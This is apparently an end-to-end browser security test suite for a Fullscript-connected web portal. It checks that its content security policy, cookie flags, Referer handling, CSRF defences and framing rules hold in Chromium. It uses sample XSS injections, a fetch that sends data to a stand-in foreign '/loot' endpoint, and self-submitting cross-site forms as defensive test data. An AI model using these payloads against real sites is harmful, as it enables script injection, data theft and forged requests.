import { execFileSync } from 'node:child_process';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { type Simulator, startSimulator } from '../../../src/simulator/simulator.js';
import { environment, freePort, startApp } from '../../support/app.js';
import { type Chromium, type Visitor, openChromium } from '../../support/chromium.js';
import { type ForeignSite, startForeignSite } from '../../support/foreign-site.js';
import { signIn as signInByClicks } from '../../support/portal.js';
import { type TestRedis, startRedis } from '../../support/redis-server.js';
import { startTlsProxy } from '../../support/tls-proxy.js';
import { until } from '../../support/until.js';

/** What a real browser makes of our headers, cookies and forms. */

type App = Awaited<ReturnType<typeof startApp>>;

let redis: TestRedis;
let simulator: Simulator;
let app: App;
let foreign: ForeignSite;
let chromium: Chromium;
let visitor: Visitor;

beforeAll(async () => {
  [redis, simulator, foreign, chromium] = await Promise.all([
    startRedis(),
    startSimulator(),
    startForeignSite(),
    openChromium(),
  ]);
  app = await startApp(environment({ simulator, redisUrl: redis.url, port: await freePort() }));
}, 60_000);

afterAll(async () => {
  await chromium.close();
  await app.close();
  await Promise.all([simulator.close(), foreign.close(), redis.stop()]);
});

beforeEach(async () => {
  visitor = await chromium.visitor();
  simulator.faults.reset();
});

afterEach(() => visitor.close());

/** By clicks, to the portal's first page. */
async function signIn({ page }: Visitor, origin = app.origin, person = 0): Promise<void> {
  await signInByClicks(page, { origin, simulator }, person);
  await page.waitForURL(`${origin}/portal`);
}

/** The session as the browser's own cookies show it. */
async function session(who: Visitor, origin = app.origin): Promise<Record<string, unknown>> {
  const answer = await who.context.request.get(`${origin}/api/session`);
  return (await answer.json()) as Record<string, unknown>;
}

const marksOf = (page: Page) => page.evaluate<string[]>('window.marks ?? []');

describe('the flow in Chromium', () => {
  it('SR-30 landing, sign-in, consent, portal → no violation of the policy, nothing on the console', async () => {
    await signIn(visitor);
    const { name } = simulator.people[0]!;
    expect(await visitor.page.locator('h1').textContent()).toContain(name);
    // The style sheet got through the policy too.
    const font = `getComputedStyle(document.body).fontFamily`;
    expect(await visitor.page.evaluate(font)).toContain('system-ui');
    await visitor.page.getByRole('button', { name: 'Sign out', exact: true }).click();
    await visitor.page.waitForURL(`${app.origin}/`);
    expect(visitor.violations).toEqual([]);
    expect(visitor.errors).toEqual([]);
    expect(await session(visitor)).toEqual({ signedIn: false });
  });

  it('SR-19 the cookies, as Chromium keeps them → HttpOnly, Lax, for this host and all its paths', async () => {
    const { page, context } = visitor;
    await page.goto(`${app.origin}/`);
    await page.getByRole('link', { name: 'Connect my Fullscript account' }).click();
    const binding = (await context.cookies(app.origin)).filter(({ name }) =>
      name.startsWith('fc_auth_'),
    );
    await signIn(visitor);
    const kept = await context.cookies(app.origin);
    const ours = [...binding, ...kept.filter(({ name }) => name === 'fc_session')];
    expect(ours).toHaveLength(2);
    for (const cookie of ours) {
      expect(cookie).toMatchObject({
        ...{ httpOnly: true, sameSite: 'Lax', path: '/', domain: '127.0.0.1' },
      });
    }
    expect(await page.evaluate('document.cookie')).toBe('');
  });

  it('SR-15 the way back from Fullscript → no request has a code in its Referer', async () => {
    await signIn(visitor);
    const { page, requests } = visitor;
    const callback = requests.find((request) => request.url().includes('/oauth/callback?'))!;
    const code = new URL(callback.url()).searchParams.get('code')!;
    // A callback that ends in a page: its address keeps the code, what it loads and links must not.
    const stale = await chromium.visitor();
    await stale.page.goto(callback.url());
    expect(await stale.page.textContent('h1')).toContain('no longer open');
    await stale.page.getByRole('link', { name: 'Start again' }).click();
    await page.reload();
    const all = [...requests, ...stale.requests];
    const referers = await Promise.all(
      all.map(async (request) => (await request.allHeaders())['referer'] ?? ''),
    );
    await stale.close();
    expect(all.length).toBeGreaterThan(10);
    // The control: within our own pages there are Referers.
    expect(referers).toContain(`${app.origin}/`);
    expect(referers.filter((text) => text.includes(code) || text.includes('code='))).toEqual([]);
  });
});

describe('a form that ends at Fullscript', () => {
  /** An error page with "Try again", in a browser whose session has ended meanwhile. */
  async function staleErrorPage(): Promise<void> {
    await signIn(visitor);
    simulator.expireAccessTokens();
    const headers = { 'retry-after': '120' };
    const busy = { endpoint: 'token', grantType: 'refresh_token', kind: 'status' } as const;
    simulator.faults.add({ ...busy, status: 429, headers });
    await visitor.page.goto(`${app.origin}/portal?tab=2`);
    await visitor.context.clearCookies();
  }

  const tryAgain = () => visitor.page.getByRole('button', { name: 'Try again' });

  it('SR-30 "Try again" after the session has ended → on to Fullscript, through the policy', async () => {
    await staleErrorPage();
    await tryAgain().click();
    await visitor.page.waitForURL((url) => url.origin === simulator.origin);
    expect(visitor.violations).toEqual([]);
    simulator.faults.reset();
    await visitor.page.locator(`button[value="${simulator.people[0]!.id}"]`).click();
    await visitor.page.waitForURL(`${app.origin}/portal?tab=2`);
  });

  it("SR-30 the same form with form-action 'self' alone → is cut off, and the test sees it", async () => {
    await visitor.page.route('**/portal?tab=2', async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      const policy = headers['content-security-policy']!;
      const narrow = policy.replace(/form-action [^;]*/, "form-action 'self'");
      expect(narrow).not.toBe(policy);
      headers['content-security-policy'] = narrow;
      await route.fulfill({ response, headers });
    });
    await staleErrorPage();
    await tryAgain().click();
    await until(() => visitor.violations.length > 0);
    expect(visitor.violations[0]).toMatchObject({ directive: 'form-action' });
    expect(visitor.page.url()).toBe(`${app.origin}/portal?tab=2`);
  });
});

describe('what somebody injects', () => {
  const inline = '<script>window.marks = ["inline script"]</script>';
  const handler = '<img src="data:," onerror="window.marks = [\'inline handler\']">';
  const link = '<a id="link" href="javascript:void(window.marks = [\'javascript link\'])">x</a>';
  const remote = (): string => `<script src="${foreign.crossSite}/evil.js"></script>`;
  const style = '<p style="color: red">x</p>';

  /** Our page, with that in its body and with or without our policy. */
  async function openWith(extra: string, keepPolicy: boolean): Promise<void> {
    await visitor.page.route(`${app.origin}/portal`, async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      if (!keepPolicy) delete headers['content-security-policy'];
      const body = (await response.text()).replace('</main>', `${extra}</main>`);
      await route.fulfill({ response, headers, body });
    });
    await visitor.page.goto(`${app.origin}/portal`);
  }

  const ATTACKS: [what: string, markup: () => string, directive: string][] = [
    ['an inline script', () => inline, 'script-src-elem'],
    ['a script from elsewhere', remote, 'script-src-elem'],
    ['an inline handler', () => handler, 'script-src-attr'],
    ['an inline style', () => style, 'style-src-attr'],
    ['a base element', () => '<base href="https://evil.example/">', 'base-uri'],
    ['a frame', () => `<iframe src="${foreign.crossSite}/evil.js"></iframe>`, 'frame-src'],
    ['an object', () => `<object data="${foreign.crossSite}/evil.js"></object>`, 'object-src'],
  ];

  it.each(ATTACKS)(
    'SR-30 %s in an answer of ours → does not act, and is reported',
    async (...attack) => {
      const [, markup, directive] = attack;
      await signIn(visitor);
      foreign.asked.length = 0;
      await openWith(markup(), true);
      await until(() => visitor.violations.length > 0);
      expect(visitor.violations.map((one) => one.directive)).toContain(directive);
      expect(await marksOf(visitor.page)).toEqual([]);
      expect(foreign.asked).toEqual([]);
    },
  );

  it('SR-30 a javascript: link in an answer of ours → does nothing, and is reported', async () => {
    await signIn(visitor);
    await openWith(link, true);
    await visitor.page.locator('#link').click();
    await until(() => visitor.violations.length > 0);
    expect(await marksOf(visitor.page)).toEqual([]);
  });

  const MARKS: [what: string, markup: () => string, mark: string][] = [
    ['an inline script', () => inline, 'inline script'],
    ['a script from elsewhere', remote, 'foreign script'],
    ['an inline handler', () => handler, 'inline handler'],
  ];

  it.each(MARKS)(
    'SR-30 %s without our policy → would run: the test can fail',
    async (...attack) => {
      const [, markup, mark] = attack;
      await signIn(visitor);
      await openWith(markup(), false);
      await until(async () => (await marksOf(visitor.page)).includes(mark));
      expect(visitor.violations).toEqual([]);
    },
  );

  it('SR-30 scripts put into the document of a page of ours → do not run, and are reported', async () => {
    await signIn(visitor);
    foreign.asked.length = 0;
    await visitor.page.evaluate(`
      const add = (fill) => document.body.append(fill(document.createElement('script')));
      add((script) => Object.assign(script, { textContent: 'window.marks = ["inline script"]' }));
      add((script) => Object.assign(script, { src: '${foreign.crossSite}/evil.js' }));
      document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(handler)});
    `);
    await until(() => visitor.violations.length >= 3);
    const directives = visitor.violations.map(({ directive }) => directive).sort();
    expect(directives).toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
    expect(await marksOf(visitor.page)).toEqual([]);
    expect(foreign.asked).toEqual([]);
  });

  it('SR-30 data sent elsewhere from a page of ours → is not sent', async () => {
    await signIn(visitor);
    foreign.asked.length = 0;
    const send = `fetch('${foreign.crossSite}/loot').then(() => 'sent', () => 'refused')`;
    expect(await visitor.page.evaluate(send)).toBe('refused');
    await until(() => visitor.violations.length > 0);
    expect(visitor.violations.map(({ directive }) => directive)).toEqual(['connect-src']);
    expect(foreign.asked).toEqual([]);
  });
});

describe('a page of somebody else', () => {
  const recordsInRedis = (): string[] =>
    execFileSync('redis-cli', ['-s', redis.socketPath, '--scan'], { encoding: 'utf8' })
      .split('\n')
      .filter((key) => key.startsWith('fc:1:pending:'))
      .sort();

  /** Opens it at the foreign site; it says `done` in its title when everything has come to an end. */
  async function openForeign(body: string, site = foreign.crossSite): Promise<void> {
    foreign.put('/attack', body);
    await visitor.page.goto(`${site}/attack`);
  }

  const started = () => `${app.origin}/oauth/authorize`;
  const settled = `onload="document.title = 'done'" onerror="document.title = 'done'"`;

  it.each([
    ['an image', () => `<img src="${started()}" ${settled}>`],
    ['a script', () => `<script src="${started()}" ${settled}></script>`],
    ['a frame', () => `<iframe src="${started()}" ${settled}></iframe>`],
    [
      'a fetch with cookies',
      () => `<script>
        fetch('${started()}', { mode: 'no-cors', credentials: 'include' })
          .catch(() => {}).then(() => { document.title = 'done' })
      </script>`,
    ],
  ])('SR-06 %s with the start of a sign-in → no sign-in is begun', async (_what, markup) => {
    const before = recordsInRedis();
    await openForeign(markup());
    await visitor.page.waitForFunction(`document.title === 'done'`);
    const sent = visitor.requests.filter((request) => request.url() === started());
    expect(sent).toHaveLength(1);
    expect(recordsInRedis()).toEqual(before);
    expect(await visitor.context.cookies(app.origin)).toEqual([]);
  });

  it('SR-06 a link or a form there → our own page asks first; our own link begins one', async () => {
    const before = recordsInRedis();
    for (const way of [
      `<a id="go" href="${started()}">x</a>`,
      `<form action="${started()}"><button id="go">x</button></form>`,
    ]) {
      await openForeign(way);
      await visitor.page.locator('#go').click();
      await visitor.page.waitForURL(`${app.origin}/?returnTo=%2Fportal`);
    }
    expect(recordsInRedis()).toEqual(before);
    // The control.
    await visitor.page.getByRole('link', { name: 'Connect my Fullscript account' }).click();
    await visitor.page.waitForURL((url) => url.origin === simulator.origin);
    expect(recordsInRedis().length).toBe(before.length + 1);
  });

  it.each(['/', '/portal', '/oauth/authorize', '/oauth/callback', '/api/session', '/nowhere'])(
    'SR-30 a frame with %s → shows nothing of ours',
    async (path) => {
      await signIn(visitor);
      for (const site of [foreign.crossSite, foreign.sameSite]) {
        foreign.put('/inside', 'theirs');
        await openForeign(
          `<iframe name="own" src="/inside"></iframe>
           <iframe name="ours" src="${app.origin}${path}" ${settled}></iframe>`,
          site,
        );
        await visitor.page.waitForFunction(`document.title === 'done'`);
        const frame = (name: string) => visitor.page.frame({ name })!;
        await until(() => frame('ours').url().startsWith('chrome-error:'));
        expect(await frame('ours').content()).not.toContain('Fullscript');
        // The control: a page that does not mind is shown.
        await until(async () => (await frame('own').content()).includes('theirs'));
      }
    },
  );

  it.each([
    ['another site', () => foreign.crossSite],
    ['another origin of this site, which gets the cookies sent along', () => foreign.sameSite],
  ])(
    'SR-28 forms that submit themselves from %s → 403, and nothing has changed',
    async (_what, siteOf) => {
      await signIn(visitor);
      const before = { ...simulator.stats };
      for (const path of [
        '/sign-out',
        '/sign-out/everywhere',
        '/oauth/disconnect',
        '/oauth/refresh',
      ]) {
        const answered = visitor.page.waitForResponse(`${app.origin}${path}`);
        await openForeign(
          `<form method="post" action="${app.origin}${path}"></form>
         <script>document.forms[0].submit()</script>`,
          siteOf(),
        );
        expect((await answered).status()).toBe(403);
        await visitor.page.waitForURL(`${app.origin}${path}`);
      }
      expect(await session(visitor)).toMatchObject({ signedIn: true, status: 'active' });
      const { livePairs, refreshes } = simulator.stats;
      expect({ livePairs, refreshes }).toEqual({
        livePairs: before.livePairs,
        refreshes: before.refreshes,
      });
      // The control: the same by a form of ours.
      await visitor.page.goto(`${app.origin}/portal`);
      await visitor.page.getByRole('button', { name: 'Sign out', exact: true }).click();
      await visitor.page.waitForURL(`${app.origin}/`);
      expect(await session(visitor)).toEqual({ signedIn: false });
    },
  );

  it('SR-28 a fetch with cookies from there → not carried out, and its answer not readable', async () => {
    await signIn(visitor);
    for (const site of [foreign.crossSite, foreign.sameSite]) {
      await openForeign('', site);
      for (const mode of ['cors', 'no-cors']) {
        const call = (path: string, method: string) =>
          visitor.page.evaluate(
            `fetch('${app.origin}${path}', { method: '${method}', mode: '${mode}', credentials: 'include' })
              .then((answer) => answer.text()).catch(() => '')`,
          );
        expect(await call('/sign-out', 'POST')).toBe('');
        expect(await call('/oauth/disconnect', 'POST')).toBe('');
        expect(await call('/api/session', 'GET')).toBe('');
      }
    }
    expect(await session(visitor)).toMatchObject({ signedIn: true, status: 'active' });
  });

  it('SR-30 a page of ours in a window that somebody opened → knows nothing of its opener', async () => {
    foreign.put('/plain', 'theirs');
    await openForeign('');
    const open = async (url: string) => {
      const popup = visitor.page.waitForEvent('popup');
      await visitor.page.evaluate(`window.opened = window.open('${url}')`);
      const page = await popup;
      await page.waitForURL(url);
      return page;
    };
    const ours = await open(`${app.origin}/`);
    expect(await ours.evaluate('window.opener === null')).toBe(true);
    await until(() => visitor.page.evaluate<boolean>('window.opened.closed'));
    // The control.
    const theirs = await open(`${foreign.crossSite}/plain`);
    expect(await theirs.evaluate('window.opener === null')).toBe(false);
  });
});

describe('headers as Chromium sees them', () => {
  interface Answer {
    readonly status: number;
    readonly headers: Record<string, string>;
  }

  /** The first answer to a page's address, before any redirect is followed. */
  async function firstAnswer(page: Page, url: string): Promise<Answer> {
    const response = await page.goto(url);
    let request = response!.request();
    for (let from = request.redirectedFrom(); from !== null; from = request.redirectedFrom()) {
      request = from;
    }
    const first = (await request.response())!;
    return { status: first.status(), headers: await first.allHeaders() };
  }

  function expectHeaders({ headers }: Answer, { https = false, cached = false }): void {
    const policy = headers['content-security-policy']!.split(/;\s*/);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'referrer-policy': expect.stringMatching(/^(same-origin|no-referrer)$/) as unknown,
      'cache-control': cached ? 'public, max-age=3600' : 'no-store',
    });
    expect(headers['strict-transport-security']).toBe(https ? 'max-age=63072000' : undefined);
    expect(headers).not.toHaveProperty('x-powered-by');
    expect(Object.keys(headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
  }

  const KINDS = [
    ['a page', '/portal', 200, {}],
    ['a redirect', '/', 303, {}],
    ['a redirect to Fullscript', '/oauth/authorize', 303, {}],
    ['an error page (400)', '/oauth/callback?code=a&state=b', 400, {}],
    ['an error page (404)', '/nowhere', 404, {}],
    ['JSON', '/api/session', 200, {}],
    ['problem JSON', '/api/nowhere', 404, {}],
    ['an answer of the gateway', '/api/fullscript/clinic', 200, {}],
    ['a file', '/assets/style.css', 200, { cached: true }],
    ['health', '/livez', 200, {}],
    ['readiness', '/readyz', 200, {}],
    ['metrics', '/metrics', 200, {}],
  ] as const;

  let signedIn: Visitor;

  beforeAll(async () => {
    signedIn = await chromium.visitor();
    await signIn(signedIn);
  });

  afterAll(() => signedIn.close());

  it.each(KINDS)('SR-30 %s (%s → %i) → has all of them', async (...kind) => {
    const [, path, status, about] = kind;
    const answer = await firstAnswer(signedIn.page, `${app.origin}${path}`);
    expect(answer.status).toBe(status);
    expectHeaders(answer, about);
  });

  it('SR-30 an error page (502) and a problem (502) → have all of them', async () => {
    await signIn(visitor);
    simulator.expireAccessTokens();
    simulator.faults.add({ endpoint: 'token', kind: 'status', status: 500 });
    for (const path of ['/portal', '/api/fullscript/clinic']) {
      const answer = await firstAnswer(visitor.page, `${app.origin}${path}`);
      expect(answer.status).toBe(502);
      expectHeaders(answer, {});
    }
  });

  describe('over https, behind a proxy', () => {
    let secure: App;
    let itsSimulator: Simulator;
    let proxy: Awaited<ReturnType<typeof startTlsProxy>>;
    let secureVisitor: Visitor;

    beforeAll(async () => {
      const [to, from] = [await freePort(), await freePort()];
      proxy = await startTlsProxy({ from, to });
      itsSimulator = await startSimulator({ redirectUris: [`${proxy.origin}/oauth/callback`] });
      const env = environment({ simulator: itsSimulator, redisUrl: redis.url, port: to });
      secure = await startApp({ ...env, BASE_URL: proxy.origin, TRUST_PROXY: '1' });
      secureVisitor = await chromium.visitor({ ignoreHTTPSErrors: true });
    });

    afterAll(async () => {
      await secureVisitor.close();
      await proxy.close();
      await secure.close();
      await itsSimulator.close();
    });

    it('SR-19 the whole flow → Chromium takes the cookies with __Host- and keeps them from scripts', async () => {
      const { page, context } = secureVisitor;
      await page.goto(`${proxy.origin}/`);
      await page.getByRole('link', { name: 'Connect my Fullscript account' }).click();
      await page.waitForURL((url) => url.origin === itsSimulator.origin);
      // Ports share cookies: the simulator's own one is there as well.
      const ours = async () =>
        (await context.cookies(proxy.origin)).filter(({ name }) => /fc_/.test(name));
      const during = await ours();
      expect(during).toMatchObject([
        { name: expect.stringMatching(/^__Host-fc_auth_/) as unknown },
      ]);
      await signIn(secureVisitor, proxy.origin);
      const after = await ours();
      expect(after.map(({ name }) => name)).toContain('__Host-fc_session');
      for (const cookie of [...during, ...after]) {
        expect(cookie.name).toMatch(/^__Host-/);
        expect(cookie).toMatchObject({
          ...{ secure: true, httpOnly: true, sameSite: 'Lax', path: '/', domain: '127.0.0.1' },
        });
      }
      expect(await page.evaluate('document.cookie')).toBe('');
      expect(secureVisitor.violations).toEqual([]);
      expect(await session(secureVisitor, proxy.origin)).toMatchObject({ signedIn: true });
    });

    // The same visitor, signed in by now.
    it.each(KINDS)('SR-30 %s (%s → %i) → has all of them, and HSTS', async (...kind) => {
      const [, path, status, about] = kind;
      const answer = await firstAnswer(secureVisitor.page, `${proxy.origin}${path}`);
      expect(answer.status).toBe(status);
      expectHeaders(answer, { ...about, https: true });
    });
  });
});
